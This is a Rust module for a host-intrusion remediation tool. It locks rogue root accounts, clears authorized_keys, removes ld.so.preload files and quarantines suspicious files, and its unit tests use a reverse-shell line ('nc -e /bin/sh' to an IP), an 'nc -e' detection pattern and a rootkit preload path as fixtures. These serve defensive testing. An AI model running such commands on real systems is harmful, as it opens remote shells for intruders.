//! Remediation primitives behind the auto-remediate switch.
//!
//! Each action is narrow and touches exactly one account or file. With
//! the switch off every action degrades to `ReportOnly`.

use crate::probe::SystemProbe;
use crate::scanner::content::ContentScanner;
use anyhow::{Context, Result};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;
use tracing::info;

/// Result of attempting one remediation.
#[derive(Debug, Clone)]
pub enum ActionResult {
    /// Action executed successfully
    Success { action: String, message: String },
    /// Auto-remediation is off; nothing was touched
    ReportOnly { action: String },
    /// Action failed; it is reported and never retried
    Failed { action: String, error: String },
}

impl ActionResult {
    pub fn is_success(&self) -> bool {
        matches!(self, ActionResult::Success { .. })
    }

    pub fn is_report_only(&self) -> bool {
        matches!(self, ActionResult::ReportOnly { .. })
    }

    pub fn is_failed(&self) -> bool {
        matches!(self, ActionResult::Failed { .. })
    }
}

/// Executor for remediation actions.
pub struct RemediationActions {
    /// Whether to actually act (true = auto-remediate)
    execute: bool,
    probe: Arc<dyn SystemProbe>,
    scanner: ContentScanner,
}

impl RemediationActions {
    pub fn new(execute: bool, probe: Arc<dyn SystemProbe>, scanner: ContentScanner) -> Self {
        Self {
            execute,
            probe,
            scanner,
        }
    }

    /// Disable login for a rogue UID-0 account.
    pub fn lock_account(&self, user: &str) -> ActionResult {
        if !self.execute {
            return ActionResult::ReportOnly {
                action: "lock_account".to_string(),
            };
        }

        info!("Auto-locking account: {}", user);
        match self.probe.lock_account(user) {
            Ok(()) => ActionResult::Success {
                action: "lock_account".to_string(),
                message: format!("Locked account {}", user),
            },
            Err(e) => ActionResult::Failed {
                action: "lock_account".to_string(),
                error: format!("Failed to lock {}: {}", user, e),
            },
        }
    }

    /// Move the key file aside and truncate the original.
    pub fn clear_authorized_keys(&self, path: &Path) -> ActionResult {
        if !self.execute {
            return ActionResult::ReportOnly {
                action: "clear_authorized_keys".to_string(),
            };
        }

        info!("Backing up and clearing {}", path.display());
        match clear_key_file(path) {
            Ok(()) => ActionResult::Success {
                action: "clear_authorized_keys".to_string(),
                message: format!("Cleared {} (backup at {}.bak)", path.display(), path.display()),
            },
            Err(e) => ActionResult::Failed {
                action: "clear_authorized_keys".to_string(),
                error: e.to_string(),
            },
        }
    }

    /// Delete the loader preload file.
    pub fn remove_preload(&self, path: &Path) -> ActionResult {
        if !self.execute {
            return ActionResult::ReportOnly {
                action: "remove_preload".to_string(),
            };
        }

        info!("Removing {}", path.display());
        match fs::remove_file(path) {
            Ok(()) => ActionResult::Success {
                action: "remove_preload".to_string(),
                message: format!("Removed {}", path.display()),
            },
            Err(e) => ActionResult::Failed {
                action: "remove_preload".to_string(),
                error: format!("Failed to remove {}: {}", path.display(), e),
            },
        }
    }

    /// Quarantine a file with suspicious content and rewrite a cleaned
    /// copy in place.
    pub fn quarantine_and_clean(&self, path: &Path) -> ActionResult {
        if !self.execute {
            return ActionResult::ReportOnly {
                action: "quarantine_and_clean".to_string(),
            };
        }

        info!("Backing up and cleaning {}", path.display());
        match self.scanner.quarantine_and_clean(path) {
            Ok(backup) => ActionResult::Success {
                action: "quarantine_and_clean".to_string(),
                message: format!(
                    "Cleaned {} (backup at {})",
                    path.display(),
                    backup.display()
                ),
            },
            Err(e) => ActionResult::Failed {
                action: "quarantine_and_clean".to_string(),
                error: e.to_string(),
            },
        }
    }
}

fn clear_key_file(path: &Path) -> Result<()> {
    let mut backup = path.as_os_str().to_os_string();
    backup.push(".bak");

    fs::rename(path, &backup)
        .with_context(|| format!("failed to back up {}", path.display()))?;
    fs::write(path, b"").with_context(|| format!("failed to truncate {}", path.display()))?;
    fs::set_permissions(path, fs::Permissions::from_mode(0o600))
        .with_context(|| format!("failed to set mode on {}", path.display()))?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::probe::ProbeOutput;
    use std::path::PathBuf;
    use std::sync::Mutex;
    use tempfile::TempDir;

    struct RecordingProbe {
        locked: Mutex<Vec<String>>,
        fail_lock: bool,
    }

    impl RecordingProbe {
        fn new(fail_lock: bool) -> Self {
            Self {
                locked: Mutex::new(Vec::new()),
                fail_lock,
            }
        }
    }

    impl SystemProbe for RecordingProbe {
        fn socket_table(&self) -> ProbeOutput {
            ProbeOutput::Unavailable
        }

        fn suid_files(&self, _dirs: &[PathBuf]) -> ProbeOutput {
            ProbeOutput::Unavailable
        }

        fn lock_account(&self, user: &str) -> Result<()> {
            self.locked.lock().unwrap().push(user.to_string());
            if self.fail_lock {
                anyhow::bail!("usermod -L {} exited with exit status: 6", user)
            }
            Ok(())
        }

        fn set_login_shell(&self, _user: &str, _shell: &str) -> Result<()> {
            Ok(())
        }
    }

    fn scanner() -> ContentScanner {
        ContentScanner::new(vec!["nc -e".to_string()])
    }

    #[test]
    fn test_report_only_touches_nothing() {
        let probe = Arc::new(RecordingProbe::new(false));
        let actions = RemediationActions::new(false, probe.clone(), scanner());

        assert!(actions.lock_account("eve").is_report_only());
        assert!(actions
            .clear_authorized_keys(Path::new("/nonexistent"))
            .is_report_only());
        assert!(actions.remove_preload(Path::new("/nonexistent")).is_report_only());
        assert!(actions
            .quarantine_and_clean(Path::new("/nonexistent"))
            .is_report_only());

        assert!(probe.locked.lock().unwrap().is_empty());
    }

    #[test]
    fn test_lock_account_invoked_once() {
        let probe = Arc::new(RecordingProbe::new(false));
        let actions = RemediationActions::new(true, probe.clone(), scanner());

        let result = actions.lock_account("eve");
        assert!(result.is_success());
        assert_eq!(*probe.locked.lock().unwrap(), vec!["eve".to_string()]);
    }

    #[test]
    fn test_lock_account_failure_no_retry() {
        let probe = Arc::new(RecordingProbe::new(true));
        let actions = RemediationActions::new(true, probe.clone(), scanner());

        let result = actions.lock_account("eve");
        assert!(result.is_failed());
        // Exactly one invocation even though it failed
        assert_eq!(probe.locked.lock().unwrap().len(), 1);
    }

    #[test]
    fn test_clear_authorized_keys() {
        let dir = TempDir::new().unwrap();
        let keys = dir.path().join("authorized_keys");
        fs::write(&keys, "ssh-rsa AAAA... intruder\n").unwrap();

        let actions =
            RemediationActions::new(true, Arc::new(RecordingProbe::new(false)), scanner());
        let result = actions.clear_authorized_keys(&keys);
        assert!(result.is_success());

        assert_eq!(fs::read_to_string(&keys).unwrap(), "");
        assert_eq!(
            fs::read_to_string(dir.path().join("authorized_keys.bak")).unwrap(),
            "ssh-rsa AAAA... intruder\n"
        );

        let mode = fs::metadata(&keys).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    #[test]
    fn test_remove_preload() {
        let dir = TempDir::new().unwrap();
        let preload = dir.path().join("ld.so.preload");
        fs::write(&preload, "/usr/lib/rootkit.so\n").unwrap();

        let actions =
            RemediationActions::new(true, Arc::new(RecordingProbe::new(false)), scanner());
        assert!(actions.remove_preload(&preload).is_success());
        assert!(!preload.exists());
    }

    #[test]
    fn test_remove_preload_missing_fails() {
        let dir = TempDir::new().unwrap();
        let actions =
            RemediationActions::new(true, Arc::new(RecordingProbe::new(false)), scanner());
        let result = actions.remove_preload(&dir.path().join("absent"));
        assert!(result.is_failed());
    }

    #[test]
    fn test_quarantine_and_clean_action() {
        let dir = TempDir::new().unwrap();
        let target = dir.path().join("job");
        fs::write(&target, "good line\nnc -e /bin/sh 1.2.3.4 53\n").unwrap();

        let actions =
            RemediationActions::new(true, Arc::new(RecordingProbe::new(false)), scanner());
        assert!(actions.quarantine_and_clean(&target).is_success());
        assert_eq!(fs::read_to_string(&target).unwrap(), "good line\n");
    }
}
